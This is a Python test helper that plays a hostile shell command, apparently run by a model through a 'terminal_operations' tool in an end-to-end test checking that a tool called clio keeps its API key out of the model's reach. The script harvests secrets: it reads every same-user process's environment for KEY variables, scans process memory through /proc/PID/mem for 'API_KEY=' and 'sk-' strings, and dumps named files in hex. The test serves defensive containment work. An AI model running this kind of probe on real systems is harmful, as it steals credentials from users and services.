"""What a hostile shell command tries, to get clio's key and the user's secrets (run by the model
through ``terminal_operations`` in tests/e2e/test_key_out_of_reach.py, as an ordinary user).

Everything it finds is printed hex-encoded, so that clio's redaction cannot hide a success: the
test looks for the hex of its secrets in what clio sent to the model. It never names the secret
it looks for (the command would carry it): it takes every ``*KEY*`` variable of every process's
``environ``, the bytes after ``API_KEY=`` and ``sk-`` in every readable memory region of every
process (``/proc/PID/mem``), and whole files given on the command line. Only the processes of
its own user are listed (what an ordinary user is kept from is the point; the rest is noise).

Usage: ``python3 key_probe.py FILE...``. One line per process and per file:
``pid PID COMM environ=ok|ERRNO mem=ok|ERRNO [hex...]`` and ``file PATH ok HEX`` / ``file PATH ERRNO``.
"""

from __future__ import annotations

import errno
import os
import sys

NEEDLES = (b"API_KEY=", b"sk-")
MAX_REGION = 64 << 20


def _err(exc: OSError) -> str:
    return errno.errorcode.get(exc.errno or 0, str(exc.errno))


def _environ(pid: str) -> tuple[str, list[str]]:
    try:
        with open(f"/proc/{pid}/environ", "rb") as f:
            data = f.read()
    except OSError as exc:
        return _err(exc), []
    return "ok", [v.hex() for v in data.split(b"\0") if b"KEY" in v]


def _mem(pid: str) -> tuple[str, list[str]]:
    found: list[str] = []
    try:
        with open(f"/proc/{pid}/maps", encoding="ascii", errors="replace") as f:
            regions = f.read().splitlines()
        mem = open(f"/proc/{pid}/mem", "rb")  # noqa: SIM115
    except OSError as exc:
        return _err(exc), []
    with mem:
        for line in regions:
            parts = line.split()
            start, end = (int(x, 16) for x in parts[0].split("-"))
            if "r" not in parts[1] or end - start > MAX_REGION:
                continue
            try:
                mem.seek(start)
                data = mem.read(end - start)
            except (OSError, OverflowError, ValueError):
                continue
            for needle in NEEDLES:
                at = data.find(needle)
                while at >= 0 and len(found) < 40:
                    found.append(data[at : at + 64].hex())
                    at = data.find(needle, at + 1)
    return "ok", found


def main(files: list[str]) -> None:
    me = str(os.getpid())
    for pid in sorted((p for p in os.listdir("/proc") if p.isdigit()), key=int):
        if pid == me:
            continue
        try:
            with open(f"/proc/{pid}/comm", encoding="utf-8", errors="replace") as f:
                comm = f.read().strip()
            with open(f"/proc/{pid}/status", encoding="utf-8", errors="replace") as f:
                uid = next(int(ln.split()[1]) for ln in f if ln.startswith("Uid:"))
        except (OSError, StopIteration, ValueError):
            continue
        if uid != os.getuid():
            continue  # other users' processes: closed by the kernel to any ordinary user
        env_state, env_hex = _environ(pid)
        mem_state, mem_hex = _mem(pid)
        print(f"pid {pid} {comm} environ={env_state} mem={mem_state}", *env_hex, *mem_hex)
    for path in files:
        try:
            with open(os.path.expanduser(path), "rb") as f:  # the shell already expanded a bare ~
                print(f"file {path} ok {f.read().hex()}")
        except OSError as exc:
            print(f"file {path} {_err(exc)}")


if __name__ == "__main__":
    main(sys.argv[1:])
